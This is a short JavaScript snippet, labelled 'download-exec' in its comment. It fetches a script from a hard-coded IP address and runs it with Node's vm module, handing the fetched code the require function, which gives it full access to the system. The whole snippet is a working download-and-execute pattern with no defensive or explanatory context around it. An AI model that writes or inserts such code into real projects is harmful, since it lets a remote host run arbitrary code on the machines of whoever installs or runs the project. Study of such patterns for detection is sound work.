// download-exec: fetched code run in a vm context that is given require
const vm = require('vm');
fetch('http://203.0.113.7/ctx.js')
  .then((r) => r.text())
  .then((src) => vm.runInNewContext(src, { require, console }));
